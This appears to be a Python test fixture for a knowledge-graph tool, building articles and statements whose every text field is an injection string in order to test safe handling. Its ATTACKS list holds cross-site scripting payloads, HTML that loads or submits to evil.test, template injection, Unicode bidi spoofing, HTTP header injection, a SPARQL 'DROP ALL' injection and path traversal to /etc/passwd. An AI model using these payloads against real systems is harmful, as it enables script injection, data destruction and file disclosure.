"""Articles, names and lists whose every string is an attack."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from dataclasses import replace

from kg.graph import Iris, linked_triples, reading_triples
from kg.records import (
    Actor,
    Agent,
    Article,
    Attribution,
    Claim,
    Evidence,
    Identification,
    Link,
    Linked,
    Reading,
    Reference,
    Span,
    Statement,
)

ALARM = "alert(1)"
ATTACKS = {
    "script": f"<script>{ALARM}</script>",
    "closing script": f"</script><script>{ALARM}</script>",
    "image": f"<img src=x onerror={ALARM}>",
    "svg": f"<svg/onload={ALARM}>",
    "double quote": f'" onmouseover="{ALARM}" x="',
    "single quote": f"' onfocus='{ALARM}' autofocus='",
    "no quote": f"x onclick={ALARM}",
    "template": "{{ 97*89 }}{% raw %}{{ self }}",
    "entity": f"&lt;script&gt;{ALARM}&lt;/script&gt;",
    "double entity": f"&amp;lt;img onerror={ALARM}&amp;gt;",
    "javascript address": f"javascript:{ALARM}",
    "data address": f"data:text/html,<script>{ALARM}</script>",
    "style": "<style>@import url(//evil.test/x.css)</style>",
    "link": '<link rel="stylesheet" href="//evil.test/x.css">',
    "base": '<base href="//evil.test/">',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.test/">',
    "iframe": '<iframe src="//evil.test/"></iframe>',
    "form": '<form action="//evil.test/"><input name="q"></form>',
    "comment": f"<!--><script>{ALARM}</script-->",
    "cdata": f"<![CDATA[<script>{ALARM}</script>]]>",
    "title": f"</title><script>{ALARM}</script>",
    "textarea": f"</textarea></bdi></p><script>{ALARM}</script>",
    "bidi override": "Ana \u202egro.live\u202c said",
    "bidi isolate": "\u2067Ana\u2066 \u2068Ruiz",
    "bidi marks": "Ana\u200f\u200e\u061c Ruiz",
    "no width": "A\u200bn\u2060a\ufeff Ruiz",
    "controls": "Ana\x07\x1b[31mRuiz\x7f\x85",
    "line separators": "Ana\u2028Ruiz\u2029",
    "tags": "Ana\U000e0041\U000e007f",
    "header": "Ana\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "sparql": '" } ; DROP ALL ; SELECT * { ?s ?p "',
    "backslash": "\\u003cscript\\u003e\\",
    "path": "../../../etc/passwd",
    "percent": "%3Cscript%3E%00%2e%2e%2f",
    "template name": "${97*89}#{97*89}<%= 97*89 %>",
}


LONG = "Ana" * 350_000


def quads(attacks: Iterable[str], base: str = "http://kg.test/") -> Iterator[tuple[str, ...]]:
    """A graph of an article for each attack, with ids that end in its number.

    Every field that a text, a name or a list sets is the attack.
    """
    iris = Iris(base)
    found = [_one(attack, str(number)) for number, attack in enumerate(attacks)]
    for reading, _ in found:
        for triple in reading_triples(reading, iris, "0.1", reading.actors[0].name):
            yield (*triple, f"<{iris.reading(reading.article.id)}>")
    known = Linked(
        *(sum(parts, ()) for parts in zip(*(_parts(one) for _, one in found), strict=True))
    )
    said = [one for reading, _ in found for one in reading.statements]
    for triple in linked_triples(known, said, iris):
        yield (*triple, f"<{iris.links_graph}>")


def _parts(known: Linked) -> tuple[tuple[object, ...], ...]:
    return known.agents, known.identifications, known.claims, known.links


def _one(attack: str, number: str) -> tuple[Reading, Linked]:
    """An accusation and its denial."""
    words = f"{attack} said {attack}, without {attack}.\n"
    size = len(attack)
    article = Article(f"a{number}", words, attack, "2024-03-02", attack, attack, attack)
    source, cue = Span(0, size), Span(size + 1, size + 5)
    content = Span(size + 6, 2 * size + 6)
    evidence = Span(2 * size + 8, len(words) - 2)
    accuser, accused = (
        Actor(f"p{number}", attack, "person", (attack,)),
        Actor(f"q{number}", attack, "person"),
    )
    said = Statement(
        id=f"s{number}",
        article=article.id,
        attribution=Attribution((source,), (cue,), (content,), 0.9),
        text=attack,
        sentence=Span(0, len(words) - 1),
        speaker=Reference(accuser.id, (source,)),
        via=(Reference(accused.id, (source,)),),
        about=(Reference(accused.id, (content,)),),
        act="accusation",
        mode="indirect",
        uttered=None,
        evidence=(Evidence("unsupported", evidence),),
        confidence=0.9,
    )
    denial = replace(said, id=f"t{number}", speaker=Reference(accused.id, (source,)), act="denial")
    first = Agent(f"g{number}", attack, "person", (attack,), ("http://names.test/Q1",))
    second = Agent(f"h{number}", attack, "person")
    known = Linked(
        (first, second),
        (
            Identification(accuser.id, first.id, 0.9, attack),
            Identification(accused.id, second.id, 0.9, attack),
        ),
        (Claim(f"c{number}", attack, (said.id,)), Claim(f"d{number}", attack, (denial.id,))),
        (Link("rebuts", denial.id, said.id, 0.8, attack),),
    )
    return Reading(article, (accuser, accused), (said, denial)), known
